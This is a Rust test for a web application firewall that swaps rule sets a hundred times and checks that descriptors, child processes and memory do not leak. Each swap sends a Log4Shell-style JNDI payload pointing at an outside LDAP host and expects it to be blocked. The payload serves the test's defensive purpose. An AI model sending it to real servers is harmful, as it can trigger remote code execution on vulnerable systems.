//! A hundred swaps with a shadow beside: processes, descriptors and memory stay as they are.

use std::collections::BTreeSet;

use bedrail_waf_rules::assemble::{Profile, assemble};
use bedrail_waf_rules::tree::Limits;
use bedrail_waf_run::control::Route;

use crate::kit::Kit;

const SWAPS: usize = 100;

/// Open descriptors, children, and resident memory of this process and of its children in KiB.
fn measure() -> (usize, usize, u64) {
    let me = std::process::id();
    let memory = |pid: u32| -> u64 {
        let text = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
        let line = text.lines().find_map(|it| it.strip_prefix("VmRSS:").map(str::to_owned));
        line.and_then(|it| it.split_whitespace().next().and_then(|it| it.parse().ok())).unwrap_or(0)
    };
    let mut children = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let text = std::fs::read_to_string(entry.path().join("status")).unwrap_or_default();
        let parent = text.lines().find_map(|it| it.strip_prefix("PPid:").map(|it| it.trim().to_owned()));
        if parent == Some(me.to_string())
            && let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>()
        {
            children.push(pid);
        }
    }
    let descriptors = std::fs::read_dir("/proc/self/fd").unwrap().count();
    (descriptors, children.len(), memory(me) + children.iter().map(|pid| memory(*pid)).sum::<u64>())
}

/// Alone in its process: it counts descriptors and children. Run with `--ignored`, or `--exact` and its name.
#[test]
#[ignore = "it counts the processes and descriptors of the whole program; run it alone"]
fn a_hundred_swaps_leave_nothing_behind() {
    let Some(kit) = Kit::new(Profile::Plain) else { return };
    let limits = Limits::default();
    let folder = kit.folder.path().join("own");
    for (name, bytes) in assemble(None, Profile::Plain, "", &BTreeSet::new(), &limits).unwrap().files() {
        let path = folder.join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, bytes).unwrap();
    }
    let proxy = kit.control();
    let mut first = (0, 0, 0);
    for number in 0..SWAPS {
        let (before, name) = (number.checked_sub(1).map(|it| format!("set-{it}")), format!("set-{number}"));
        proxy.load(&name, &folder).unwrap();
        proxy.route(&Route { shadow: Some(name.clone()), ..Route::default() }).unwrap();
        assert_eq!(kit.get("/patients?name=garcia", 1), 200);
        proxy.route(&Route { current: Some(name), standby: before, ..Route::default() }).unwrap();
        assert_eq!(kit.get("/?q=${jndi:ldap://198.51.100.7/a}", 1), 403);
        if number == 9 {
            std::thread::sleep(std::time::Duration::from_secs(1));
            first = measure();
        }
    }
    std::thread::sleep(std::time::Duration::from_secs(1));
    let last = measure();
    println!("descriptors, children, KiB: after 10 swaps {first:?}, after {SWAPS} {last:?}");
    assert_eq!(last.1, 2, "the one that decides and the one to go back to");
    assert!(last.0 <= first.0 + 4, "{first:?} {last:?}");
    assert!(last.2 <= first.2 + first.2 / 5, "{first:?} {last:?}");
}
